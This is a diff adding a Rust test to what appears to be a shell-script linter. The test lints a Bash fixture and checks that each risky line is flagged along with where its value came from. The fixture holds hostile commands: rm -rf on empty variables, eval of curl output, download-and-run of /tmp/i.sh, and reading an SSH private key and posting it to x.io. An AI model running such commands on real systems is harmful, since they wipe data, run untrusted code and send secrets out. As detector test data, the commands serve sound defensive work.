@@ -430,3 +430,56 @@ rm -rf /"##,
         .collect();
     assert!(differ.is_empty(), "{differ:#?}");
 }
+
+#[test]
+fn a_finding_says_where_the_value_came_from() {
+    let said = |script: &str| {
+        let document = crate::Document::new(script, crate::script::Dialect::Bash);
+        let report = crate::rules::check(&document, None);
+        let line = |at: usize| script[..at].matches('\n').count() + 1;
+        let mut text = String::new();
+        for it in report.findings() {
+            text += &format!("{}: {} {}\n", line(it.span.start), it.level.name(), it.message);
+            for (span, why) in &it.related {
+                text += &format!("  {}: {why}\n", line(span.start));
+            }
+        }
+        text
+    };
+    let script = r#"#!/bin/bash
+base=$1
+target=$base
+work() {
+    local dir=$(sed -n 's/^dir=//p' "$2")
+    rm -rf "$dir"/*
+}
+cd /srv/app
+rm -rf ./*
+rm -rf "$target"/*
+work a b
+rm -rf "$NOWHERE"/
+payload=$(curl -s https://x.io/a)
+echo ready
+eval "$payload"
+curl -so /tmp/i.sh https://x.io/i.sh
+chmod +x /tmp/i.sh
+/tmp/i.sh
+key=$(cat ~/.ssh/id_ed25519)
+curl -d "$key" https://x.io/up
+"#;
+    expect_test::expect![[r#"
+        6: danger deletes the whole system when `$dir` is empty: the command that sets it printed nothing
+          5: `$dir` gets its value here
+        9: danger deletes everything in whatever folder this runs in when `cd` fails
+          8: where `cd` can fail, and the script goes on
+        10: danger deletes the whole system when `$target` is empty: the script got no such argument
+          3: `$target` gets its value here
+        12: danger deletes the whole system when `$NOWHERE` is not set
+        15: danger `eval` runs whatever the network sends
+          13: where it arrives
+        18: danger runs `/tmp/i.sh` as the network sent it: no check would stop it
+          16: where it is downloaded
+        20: danger sends a secret that was read before to another machine
+    "#]]
+    .assert_eq(&said(script));
+}
